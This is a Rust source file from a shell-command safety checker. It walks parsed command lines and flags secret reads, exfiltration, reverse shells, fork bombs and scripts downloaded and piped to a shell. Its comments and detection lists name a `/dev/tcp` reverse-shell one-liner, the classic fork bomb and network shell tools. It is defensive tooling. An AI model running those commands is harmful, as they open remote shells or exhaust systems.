//! Walks a parsed command line and judges every simple command in it.
//!
//! The walk keeps just enough shell state to resolve paths: the working directory
//! (`cd`), variables assigned in straight-line code, and what each pipeline stage feeds
//! the next. Anything assigned or changed on a path that may not run becomes unknown,
//! so a guess never makes a command look safer than it is.

use std::collections::HashMap;

use cordon_core::{Effect, Target};

use crate::Finding;
use crate::flow::{Content, Flow};
use crate::parse::{self, Cmd, Node, Part, Redirect, Word};
use crate::paths::Places;
use crate::word::{Arg, brace_expand, program_name};
use crate::{
    commands, files, git, http, infra, inline, migrate, publish, secrets, sql, system, wrappers,
};

/// Re-parses (`bash -c`, `eval`, `| sh`) and wrappers (`sudo env nice …`) followed
/// before giving up.
pub(crate) const MAX_NESTING: usize = 64;
/// Statement and substitution levels walked, across all re-parses.
pub(crate) const MAX_DEPTH: usize = 64;
/// Statements walked per command line (loops are unrolled, scripts re-parsed).
const MAX_WORK: usize = 100_000;
/// Loop values unrolled one by one; longer lists are judged with an unknown value.
const MAX_UNROLL: usize = 16;
/// Length of the `command` text kept in a finding.
const MAX_SHOWN: usize = 240;

#[derive(Debug, Clone, Default)]
struct Var {
    value: Option<String>,
    tainted: bool,
}

/// Something one command does, before it is tied to the command's text.
#[derive(Debug, Clone)]
pub(crate) struct Hit {
    pub effect: Effect,
    pub reason: String,
    pub path: Option<String>,
    pub host: Option<String>,
    pub target: Option<Target>,
}

impl Hit {
    pub fn new(effect: Effect, reason: impl Into<String>) -> Hit {
        Hit {
            effect,
            reason: reason.into(),
            path: None,
            host: None,
            target: None,
        }
    }

    pub fn path(mut self, path: Option<String>) -> Hit {
        self.path = path;
        self
    }

    pub fn host(mut self, host: Option<String>) -> Hit {
        self.host = host;
        self
    }

    pub fn target(mut self, kind: &str, id: &str) -> Hit {
        self.target = Some(Target {
            kind: kind.to_string(),
            id: id.to_string(),
            environment: None,
        });
        self
    }
}

/// A simple command after wrappers are peeled off.
pub(crate) struct Call<'a> {
    /// Program name without directories (`/usr/bin/rm` → `rm`).
    pub name: &'a str,
    /// Everything after the program name.
    pub args: &'a [Arg],
    pub stdin: &'a Flow,
    /// `VAR=value` assignments written before the command.
    pub env: &'a [(String, Arg)],
}

impl Call<'_> {
    /// The argument after `name` (`-X DELETE`), or the value of `name=…`.
    pub fn opt_value(&self, names: &[&str]) -> Option<&Arg> {
        let mut it = self.args.iter();
        while let Some(a) = it.next() {
            if names.iter().any(|n| a.is(n)) {
                return it.next();
            }
        }
        None
    }

    pub fn has(&self, flag: &str) -> bool {
        self.args.iter().any(|a| a.is(flag))
    }

    /// A short flag given alone or bundled (`-rf` has `r` and `f`).
    pub fn has_short(&self, letter: char) -> bool {
        self.args.iter().any(|a| {
            let s = a.s();
            s.starts_with('-')
                && !s.starts_with("--")
                && s.len() > 1
                && s.get(1..).is_some_and(|r| r.contains(letter))
        })
    }

    /// Positional words (not starting with `-`), after the first `skip` of them.
    pub fn positionals(&self) -> Vec<&Arg> {
        let mut out = Vec::new();
        let mut after_dashdash = false;
        for a in self.args {
            if !after_dashdash && a.is("--") {
                after_dashdash = true;
                continue;
            }
            if after_dashdash || !a.is_option() {
                out.push(a);
            }
        }
        out
    }

    pub fn env_value(&self, name: &str) -> Option<&str> {
        self.env
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .and_then(|(_, a)| a.lit.as_deref())
    }
}

pub(crate) struct Engine {
    pub places: Places,
    /// Set while judging a command that runs on another machine or in a container
    /// (`ssh host …`, `docker exec`): where it runs, for messages.
    pub remote: Option<String>,
    /// The network host of that machine, for findings.
    remote_host: Option<String>,
    vars: HashMap<String, Var>,
    /// Above zero inside code that may not run (branches, loop bodies, `||`).
    cond: u32,
    findings: Vec<Finding>,
    nesting: usize,
    depth: usize,
    work: usize,
    /// Text of the command being judged, for findings.
    current: String,
}

impl Engine {
    pub fn new(ctx: &crate::ShellContext) -> Engine {
        let text = |p: &std::path::Path| parse_path_text(p);
        Engine {
            places: Places {
                cwd: text(&ctx.cwd),
                workspace: text(&ctx.workspace),
                home: text(&ctx.home),
            },
            remote: None,
            remote_host: None,
            vars: HashMap::new(),
            cond: 0,
            findings: Vec::new(),
            nesting: 0,
            depth: 0,
            work: 0,
            current: String::new(),
        }
    }

    pub fn run(mut self, command: &str) -> Vec<Finding> {
        self.current = shorten(command);
        self.script(command, &Flow::default());
        let mut out: Vec<Finding> = Vec::new();
        for f in self.findings {
            if !out.contains(&f) {
                out.push(f);
            }
        }
        out
    }

    // ----- findings -------------------------------------------------------------

    pub fn hit(&mut self, hit: Hit) {
        let host = hit.host.or_else(|| self.remote_host.clone());
        if hit.effect == Effect::Read && host.is_none() {
            return;
        }
        self.findings.push(Finding {
            effect: hit.effect,
            command: self.current.clone(),
            reason: hit.reason,
            path: hit.path,
            host,
            target: hit.target,
        });
    }

    pub fn unknown(&mut self, reason: impl Into<String>) {
        self.hit(Hit::new(Effect::Unknown, reason));
    }

    /// Findings recorded since `mark` (from [`Engine::mark`]).
    pub fn since(&self, mark: usize) -> &[Finding] {
        self.findings.get(mark..).unwrap_or_default()
    }

    pub fn mark(&self) -> usize {
        self.findings.len()
    }

    // ----- scripts ----------------------------------------------------------------

    /// Parses and judges a script: the command line itself or one found inside it.
    pub fn script(&mut self, text: &str, stdin: &Flow) -> Flow {
        if self.nesting >= MAX_NESTING {
            self.unknown(format!(
                "commands nest more than {MAX_NESTING} levels deep (shells inside shells)"
            ));
            return Flow::opaque();
        }
        match parse::parse(text) {
            Ok(node) => {
                self.nesting += 1;
                let out = self.walk(&node, stdin);
                self.nesting -= 1;
                out
            }
            Err(e) => {
                let saved = std::mem::replace(&mut self.current, shorten(text));
                self.unknown(format!(
                    "{e}; a command that cannot be read is not judged safe"
                ));
                self.current = saved;
                Flow::opaque()
            }
        }
    }

    /// Judges a script given as an argument (`bash -c ARG`, `eval ARG`).
    pub fn script_arg(&mut self, arg: &Arg, what: &str) -> Flow {
        match arg.script.clone() {
            Some(text) => self.script(&text, &Flow::default()),
            None => {
                self.unknown(format!("{what} runs a script built at run time"));
                Flow::opaque()
            }
        }
    }

    /// Judges what a shell would run from its stdin (`… | sh`, `sh <<EOF`).
    pub fn stdin_script(&mut self, stdin: &Flow, shell: &str) -> Flow {
        if stdin.remote {
            self.unknown(format!(
                "{shell} runs a script downloaded from the network, which cannot be seen before it runs"
            ));
            return Flow::opaque();
        }
        let text = match (&stdin.content, stdin.script_text()) {
            (_, Some(t)) => t.to_string(),
            (Content::Nothing, None) => {
                self.unknown(format!(
                    "{shell} without a script reads commands from the terminal"
                ));
                return Flow::opaque();
            }
            (_, None) => {
                self.unknown(format!(
                    "{shell} runs commands from stdin that are not known before it runs"
                ));
                return Flow::opaque();
            }
        };
        self.script(&text, &Flow::default())
    }

    /// Judges a command run on another machine or in a container (`label`): its paths
    /// are not this workspace's. `host` goes into findings when it is a network host.
    pub fn remote_script(
        &mut self,
        label: &str,
        host: Option<String>,
        text: Option<&str>,
        stdin: &Flow,
    ) -> Flow {
        let saved_places = std::mem::take(&mut self.places);
        let saved_remote = self.remote.replace(label.to_string());
        let saved_host = std::mem::replace(&mut self.remote_host, host);
        let saved_vars = std::mem::take(&mut self.vars);
        let out = match text {
            Some(t) => self.script(t, &Flow::default()),
            None => self.stdin_script(stdin, &format!("a shell on {label}")),
        };
        self.places = saved_places;
        self.remote = saved_remote;
        self.remote_host = saved_host;
        self.vars = saved_vars;
        out
    }

    // ----- walking ----------------------------------------------------------------

    fn walk(&mut self, node: &Node, stdin: &Flow) -> Flow {
        if !self.budget() {
            return Flow::opaque();
        }
        if self.depth >= MAX_DEPTH {
            self.unknown(format!(
                "the command nests more than {MAX_DEPTH} levels deep and was not read to the end"
            ));
            return Flow::opaque();
        }
        self.depth += 1;
        let out = self.walk_inner(node, stdin);
        self.depth -= 1;
        out
    }

    fn walk_inner(&mut self, node: &Node, stdin: &Flow) -> Flow {
        match node {
            Node::Seq(stmts) => {
                let mut out = Flow::default();
                for s in stmts {
                    let o = self.walk(s, stdin);
                    out = out.then(o);
                }
                out
            }
            Node::List { left, or, right } => {
                let l = self.walk(left, stdin);
                if *or {
                    self.cond += 1;
                }
                let r = self.walk(right, stdin);
                if *or {
                    self.cond -= 1;
                }
                l.then(r)
            }
            Node::Pipeline(stages) => {
                let mut flow = stdin.clone();
                let mut taint = stdin.secret;
                for stage in stages {
                    let saved = self.save();
                    let mark = self.mark();
                    let mut out = self.walk(stage, &flow);
                    taint |= out.secret
                        || self
                            .since(mark)
                            .iter()
                            .any(|f| f.effect == Effect::SecretRead);
                    out.secret = taint;
                    self.restore(saved);
                    flow = out;
                }
                flow
            }
            Node::Cmd(cmd) => self.command(cmd, &[], stdin),
            Node::Subshell(body) => {
                let saved = self.save();
                let out = self.walk(body, stdin);
                self.restore(saved);
                out
            }
            Node::Redirected { body, redirects } => match body.as_ref() {
                Node::Cmd(cmd) => self.command(cmd, redirects, stdin),
                other => {
                    let (input, outs) = self.redirects(redirects, stdin);
                    let out = self.walk(other, &input);
                    self.outputs(&outs, out)
                }
            },
            Node::Branches(parts) => {
                self.cond += 1;
                let mut out = Flow::default();
                for p in parts {
                    let o = self.walk(p, stdin);
                    out = out.then(o);
                }
                self.cond -= 1;
                out
            }
            Node::For { var, values, body } => self.for_loop(var, values.as_deref(), body, stdin),
            Node::Function { name, body } => {
                if calls_itself(name, body) {
                    let saved = std::mem::replace(&mut self.current, format!("{name}() {{ … }}"));
                    self.hit(Hit::new(
                        Effect::Destroy,
                        format!("function `{name}` pipes into itself without end (a fork bomb)"),
                    ));
                    self.current = saved;
                }
                let saved = self.save();
                self.cond += 1;
                self.walk(body, stdin);
                self.cond -= 1;
                self.restore(saved);
                Flow::default()
            }
            Node::Assign(assigns) => {
                for a in assigns {
                    let value = a.value.as_ref().map(|w| self.word(w));
                    let var = match value {
                        Some(v) => Var {
                            value: v.lit.clone(),
                            tainted: v.tainted,
                        },
                        None => Var {
                            value: Some(String::new()),
                            tainted: false,
                        },
                    };
                    self.set_var(&a.name, var);
                }
                Flow::default()
            }
            Node::Unset(names) => {
                for n in names {
                    self.vars.insert(n.clone(), Var::default());
                }
                Flow::default()
            }
            Node::Inner(words) => {
                for w in words {
                    self.word(w);
                }
                Flow::default()
            }
            Node::Unreadable(reason) => {
                self.unknown(reason.clone());
                Flow::opaque()
            }
        }
    }

    fn for_loop(&mut self, var: &str, values: Option<&[Word]>, body: &Node, stdin: &Flow) -> Flow {
        self.cond += 1;
        let mut args = Vec::new();
        if let Some(words) = values {
            for w in words {
                args.extend(self.words(std::slice::from_ref(w)));
            }
        }
        let unroll = values.is_some() && args.len() <= MAX_UNROLL && args.iter().all(|a| a.known());
        let mut out = Flow::default();
        if unroll {
            for a in &args {
                if self.work > MAX_WORK {
                    break;
                }
                self.vars.insert(
                    var.to_string(),
                    Var {
                        value: a.lit.clone(),
                        tainted: a.tainted,
                    },
                );
                let o = self.walk(body, stdin);
                out = out.then(o);
            }
        } else {
            let tainted = args.iter().any(|a| a.tainted);
            self.vars.insert(
                var.to_string(),
                Var {
                    value: None,
                    tainted,
                },
            );
            out = self.walk(body, stdin);
        }
        self.vars.insert(var.to_string(), Var::default());
        self.cond -= 1;
        out
    }

    fn save(&self) -> (HashMap<String, Var>, Option<String>) {
        (self.vars.clone(), self.places.cwd.clone())
    }

    fn restore(&mut self, saved: (HashMap<String, Var>, Option<String>)) {
        self.vars = saved.0;
        self.places.cwd = saved.1;
    }

    fn set_var(&mut self, name: &str, mut var: Var) {
        if self.cond > 0 {
            var.value = None;
        }
        let tainted =
            var.tainted || (self.cond > 0 && self.vars.get(name).is_some_and(|v| v.tainted));
        var.tainted = tainted;
        self.vars.insert(name.to_string(), var);
    }

    /// Makes a variable unknown (`read x`, `printf -v x`).
    pub fn forget(&mut self, name: &str) {
        self.vars.insert(name.to_string(), Var::default());
    }

    /// Changes the working directory (`cd`, `pushd`).
    pub fn set_cwd(&mut self, dir: Option<String>) {
        self.places.cwd = if self.cond > 0 { None } else { dir };
    }

    // ----- simple commands ------------------------------------------------------

    /// Spends one unit of work; false (after one unknown finding) once it is used up.
    fn budget(&mut self) -> bool {
        self.work += 1;
        if self.work > MAX_WORK {
            if self.work == MAX_WORK + 1 {
                self.unknown("the command line holds too many commands to judge them all");
            }
            return false;
        }
        true
    }

    fn command(&mut self, cmd: &Cmd, extra: &[Redirect], stdin: &Flow) -> Flow {
        if !self.budget() {
            return Flow::opaque();
        }
        let saved = std::mem::replace(&mut self.current, shorten(&cmd.text));
        let mut env = Vec::new();
        for a in &cmd.assigns {
            let value = a
                .value
                .as_ref()
                .map(|w| self.word(w))
                .unwrap_or_else(|| Arg::literal(""));
            env.push((a.name.clone(), value));
        }
        let args = self.words(&cmd.words);
        let mut redirects: Vec<&Redirect> = cmd.redirects.iter().collect();
        redirects.extend(extra.iter());
        let (input, outs) = self.redirects_ref(&redirects, stdin);
        let out = if args.is_empty() {
            for (name, value) in &env {
                self.set_var(
                    name,
                    Var {
                        value: value.lit.clone(),
                        tainted: value.tainted,
                    },
                );
            }
            Flow::default()
        } else {
            self.reverse_shell(&args, &outs);
            self.dispatch(&args, &input, &env)
        };
        let out = self.outputs(&outs, out);
        self.current = saved;
        out
    }

    /// `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a socket.
    fn reverse_shell(&mut self, args: &[Arg], outs: &[(u32, Arg)]) {
        let shell = args
            .first()
            .and_then(|a| a.lit.as_deref())
            .map(program_name)
            .is_some_and(|n| {
                matches!(
                    n,
                    "sh" | "bash"
                        | "zsh"
                        | "dash"
                        | "ksh"
                        | "exec"
                        | "fish"
                        | "python"
                        | "python3"
                        | "perl"
                        | "ruby"
                        | "php"
                        | "nc"
                )
            });
        if !shell {
            return;
        }
        let host = outs
            .iter()
            .find_map(|(_, a)| a.lit.as_deref().and_then(http::dev_tcp_host));
        if let Some(host) = host {
            self.hit(
                Hit::new(
                    Effect::Exfiltrate,
                    format!("connects a shell to {host} over a raw socket (a reverse shell)"),
                )
                .host(Some(host)),
            );
        }
    }

    /// Judges `argv` (already expanded). Wrappers call back in with the inner command.
    pub fn dispatch(&mut self, argv: &[Arg], stdin: &Flow, env: &[(String, Arg)]) -> Flow {
        let Some(first) = argv.first() else {
            return Flow::default();
        };
        if first.has_subst {
            self.unknown(format!(
                "the command name `{}` comes from a command substitution and is only known at run time",
                first.raw
            ));
            return Flow::opaque();
        }
        let Some(word) = first.lit.as_deref() else {
            self.unknown(format!(
                "the command name `{}` comes from a variable and is only known at run time",
                first.raw
            ));
            return Flow::opaque();
        };
        if self.nesting >= MAX_NESTING {
            self.unknown(format!("wrappers nest more than {MAX_NESTING} levels deep"));
            return Flow::opaque();
        }
        self.nesting += 1;
        let call = Call {
            name: program_name(word),
            args: argv.get(1..).unwrap_or_default(),
            stdin,
            env,
        };
        let mark = self.mark();
        http::exfiltration(self, &call);
        let out = self.classify(&call);
        self.nesting -= 1;
        let read_secret = self
            .since(mark)
            .iter()
            .any(|f| f.effect == Effect::SecretRead);
        let mut out = out;
        out.secret |= read_secret || (stdin.secret && !out.is_nothing());
        out
    }

    fn classify(&mut self, c: &Call) -> Flow {
        // `tool --version` and `tool --help` only print.
        if let [only] = c.args
            && matches!(
                only.s(),
                "--version" | "-V" | "--help" | "-h" | "version" | "help" | "-version"
            )
        {
            return Flow::opaque();
        }
        // `kubectl delete --help` prints help; shells and wrappers would run what
        // comes before it.
        if c.args.last().is_some_and(|a| a.is("--help"))
            && !matches!(
                c.name,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "ksh"
                    | "fish"
                    | "eval"
                    | "sudo"
                    | "doas"
                    | "env"
                    | "xargs"
                    | "parallel"
                    | "watch"
                    | "ssh"
                    | "su"
                    | "timeout"
                    | "nohup"
                    | "nice"
                    | "find"
                    | "python"
                    | "python3"
                    | "node"
                    | "perl"
                    | "ruby"
                    | "php"
                    | "exec"
                    | "command"
                    | "time"
            )
            && !c
                .args
                .iter()
                .any(|a| a.s().contains(char::is_whitespace) || a.is("--"))
        {
            return Flow::opaque();
        }
        type Classifier = fn(&mut Engine, &Call) -> Option<Flow>;
        const DOMAINS: &[Classifier] = &[
            wrappers::classify,
            files::classify,
            git::classify,
            sql::classify,
            migrate::classify,
            publish::classify,
            infra::classify,
            http::classify,
            system::classify,
            inline::classify,
        ];
        for domain in DOMAINS {
            if let Some(out) = domain(self, c) {
                return out;
            }
        }
        commands::classify(self, c)
    }

    // ----- words ------------------------------------------------------------------

    /// Expands words into arguments (brace alternatives become separate arguments).
    pub(crate) fn words(&mut self, words: &[Word]) -> Vec<Arg> {
        let mut out = Vec::new();
        for w in words {
            let (arg, brace) = self.word_inner(w);
            if arg.split
                && let Some(text) = &arg.lit
            {
                // An unquoted variable holding spaces becomes several words.
                out.extend(text.split_whitespace().map(|t| Arg {
                    tainted: arg.tainted,
                    vars: arg.vars.clone(),
                    ..Arg::literal(t)
                }));
                continue;
            }
            match (&arg.lit, brace) {
                (Some(text), true) => {
                    let alts = brace_expand(text);
                    if alts.len() > 1 {
                        out.extend(alts.into_iter().map(|t| Arg {
                            tainted: arg.tainted,
                            ..Arg::literal(t)
                        }));
                        continue;
                    }
                    out.push(arg);
                }
                _ => out.push(arg),
            }
        }
        out
    }

    pub(crate) fn word(&mut self, w: &Word) -> Arg {
        self.word_inner(w).0
    }

    fn word_inner(&mut self, w: &Word) -> (Arg, bool) {
        let mut arg = Arg {
            lit: Some(String::new()),
            script: Some(String::new()),
            raw: w.raw.clone(),
            ..Arg::default()
        };
        let mut brace = false;
        for (i, part) in w.parts.iter().enumerate() {
            match part {
                Part::Lit { text, quoted } => {
                    let expanded;
                    let text = if i == 0 && !quoted && text.starts_with('~') {
                        expanded = self.tilde(text);
                        expanded.as_str()
                    } else {
                        text.as_str()
                    };
                    if !quoted && text.contains('{') && text.contains(',') {
                        brace = true;
                    }
                    push_known(&mut arg, text);
                }
                Part::Var {
                    name,
                    default,
                    quoted,
                } => {
                    arg.vars.push(name.clone());
                    let var = self.lookup(name);
                    arg.tainted |= var.tainted;
                    match var.value {
                        Some(v) => {
                            if !quoted && v.contains(char::is_whitespace) {
                                arg.split = true;
                            }
                            push_known(&mut arg, &v);
                        }
                        None => {
                            if let Some(d) = default {
                                // The default's substitutions run when the variable is unset.
                                let d = self.word(d);
                                arg.tainted |= d.tainted;
                            }
                            push_unknown(&mut arg, Some(&format!("${{{name}}}")));
                        }
                    }
                }
                Part::Subst(node) => {
                    arg.has_subst = true;
                    let out = self.substitution(node);
                    arg.tainted |= out.secret || out.env_dump;
                    match out.literal() {
                        Some(t) => {
                            let t = t.trim_end_matches('\n').to_string();
                            push_known(&mut arg, &t);
                        }
                        None => push_unknown(&mut arg, None),
                    }
                }
                Part::Proc(node) => {
                    let out = self.substitution(node);
                    arg.tainted |= out.secret || out.env_dump;
                    arg.flow = Some(out);
                    push_unknown(&mut arg, None);
                }
                Part::Dynamic(inner, names) => {
                    arg.vars.extend(names.iter().cloned());
                    for w in inner {
                        let a = self.word(w);
                        arg.tainted |= a.tainted;
                        arg.has_subst |= a.has_subst;
                    }
                    push_unknown(&mut arg, None);
                }
            }
        }
        (arg, brace)
    }

    /// Runs a `$( … )` or `<( … )` body in a subshell and returns its output.
    fn substitution(&mut self, node: &Node) -> Flow {
        let saved = self.save();
        let current = self.current.clone();
        let mark = self.mark();
        let mut out = self.walk(node, &Flow::default());
        out.secret |= self
            .since(mark)
            .iter()
            .any(|f| f.effect == Effect::SecretRead);
        self.current = current;
        self.restore(saved);
        out
    }

    fn tilde(&self, text: &str) -> String {
        let (user, rest) = match text.find('/') {
            Some(i) => (text.get(1..i).unwrap_or(""), text.get(i..).unwrap_or("")),
            None => (text.get(1..).unwrap_or(""), ""),
        };
        let home = if user.is_empty() {
            match &self.places.home {
                Some(h) => h.clone(),
                None => return text.to_string(),
            }
        } else if user == "root" {
            "/root".to_string()
        } else if user
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        {
            format!("/home/{user}")
        } else {
            return text.to_string();
        };
        format!("{home}{rest}")
    }

    fn lookup(&self, name: &str) -> Var {
        if let Some(v) = self.vars.get(name) {
            return v.clone();
        }
        let value = match name {
            "HOME" => self.places.home.clone(),
            "PWD" => self.places.cwd.clone(),
            // Scratch space by definition, wherever the system puts it.
            "TMPDIR" | "TMP" | "TEMP" | "RUNNER_TEMP" => Some("/tmp".to_string()),
            _ => None,
        };
        Var {
            value,
            tainted: false,
        }
    }

    // ----- redirects ------------------------------------------------------------

    fn redirects(&mut self, redirects: &[Redirect], stdin: &Flow) -> (Flow, Vec<(u32, Arg)>) {
        let refs: Vec<&Redirect> = redirects.iter().collect();
        self.redirects_ref(&refs, stdin)
    }

    /// Evaluates redirects: what the command reads on stdin, and where it writes.
    fn redirects_ref(&mut self, redirects: &[&Redirect], stdin: &Flow) -> (Flow, Vec<(u32, Arg)>) {
        let mut input = stdin.clone();
        let mut outs = Vec::new();
        for r in redirects {
            match r {
                Redirect::In { target } => {
                    let arg = self.word(target);
                    input = files::read_redirect(self, &arg);
                }
                Redirect::Heredoc { body } => {
                    let arg = self.word(body);
                    input = arg_flow(&arg);
                }
                Redirect::HereString { word } => {
                    let mut arg = self.word(word);
                    if let Some(l) = arg.lit.as_mut() {
                        l.push('\n');
                    }
                    if let Some(s) = arg.script.as_mut() {
                        s.push('\n');
                    }
                    input = arg_flow(&arg);
                }
                Redirect::Out { fd, target } => {
                    let arg = self.word(target);
                    outs.push((*fd, arg));
                }
                Redirect::Dup => {}
            }
        }
        (input, outs)
    }

    /// Judges output redirects once the command's output is known; returns what is
    /// left on stdout for a pipe.
    fn outputs(&mut self, outs: &[(u32, Arg)], out: Flow) -> Flow {
        let mut out = out;
        for (fd, arg) in outs {
            files::write_redirect(self, arg, &out);
            if *fd == 1 {
                out = Flow {
                    content: Content::Nothing,
                    ..out
                };
            }
        }
        out
    }

    // ----- helpers for classifiers ------------------------------------------------

    /// Flags a read of any secret file among `args` (for commands that show or copy
    /// what they read). Returns whether one was found.
    pub fn secret_args(&mut self, args: &[&Arg], verb: &str) -> bool {
        self.secret_args_in(args, verb, false)
    }

    /// Like [`Engine::secret_args`], for commands that descend into directories
    /// (`grep -r`, `tar`, `cp -r`): home, or a directory holding it, counts too.
    pub fn secret_tree_args(&mut self, args: &[&Arg], verb: &str) -> bool {
        self.secret_args_in(args, verb, true)
    }

    fn secret_args_in(&mut self, args: &[&Arg], verb: &str, tree: bool) -> bool {
        let mut found = false;
        for a in args {
            let p = self.places.resolve(a);
            let Some(abs) = p.abs.as_deref() else {
                continue;
            };
            if tree
                && let Some(home) = self.places.home.as_deref()
                && crate::paths::within(home, p.base.as_deref().unwrap_or(abs))
            {
                self.hit(
                    Hit::new(
                        Effect::SecretRead,
                        format!("{verb} {abs}, which holds the home directory's credentials (~/.ssh, ~/.aws)"),
                    )
                    .path(Some(abs.to_string())),
                );
                found = true;
                continue;
            }
            if let Some(what) = secrets::secret_file(abs, self.places.home.as_deref()) {
                self.hit(
                    Hit::new(Effect::SecretRead, format!("{verb} {abs}, {what}"))
                        .path(Some(abs.to_string())),
                );
                found = true;
            }
        }
        found
    }
}

/// Appends known text to an argument.
fn push_known(arg: &mut Arg, text: &str) {
    if let Some(l) = arg.lit.as_mut() {
        l.push_str(text);
        arg.prefix.push_str(text);
    }
    if let Some(s) = arg.script.as_mut() {
        s.push_str(text);
    }
}

/// Marks an argument as only partly known from here on.
fn push_unknown(arg: &mut Arg, script: Option<&str>) {
    arg.lit = None;
    match (arg.script.as_mut(), script) {
        (Some(s), Some(t)) => s.push_str(t),
        _ => arg.script = None,
    }
}

/// What a heredoc or here-string feeds a command.
fn arg_flow(arg: &Arg) -> Flow {
    Flow {
        content: match &arg.lit {
            Some(t) => Content::Text(t.clone()),
            None => Content::Opaque,
        },
        script: arg.script.clone(),
        secret: arg.tainted,
        env_dump: false,
        remote: false,
        paths: None,
    }
}

fn shorten(text: &str) -> String {
    let t = text.trim();
    if t.len() <= MAX_SHOWN {
        return t.to_string();
    }
    let mut end = MAX_SHOWN;
    while !t.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", t.get(..end).unwrap_or(""))
}

fn parse_path_text(p: &std::path::Path) -> Option<String> {
    let s = p.to_str()?;
    if s.starts_with('/') {
        Some(crate::paths::normalize(s))
    } else {
        None
    }
}

/// A function whose body pipes into or backgrounds a call to itself: `:(){ :|:& };:`.
fn calls_itself(name: &str, body: &Node) -> bool {
    fn in_pipeline(name: &str, node: &Node, piped: bool) -> bool {
        match node {
            Node::Cmd(c) => piped && c.words.first().is_some_and(|w| w.raw == name),
            Node::Pipeline(stages) => stages.iter().any(|s| in_pipeline(name, s, true)),
            Node::Seq(v) | Node::Branches(v) => v.iter().any(|s| in_pipeline(name, s, piped)),
            Node::List { left, right, .. } => {
                in_pipeline(name, left, piped) || in_pipeline(name, right, piped)
            }
            Node::Subshell(b) | Node::Redirected { body: b, .. } => in_pipeline(name, b, piped),
            _ => false,
        }
    }
    in_pipeline(name, body, false)
}
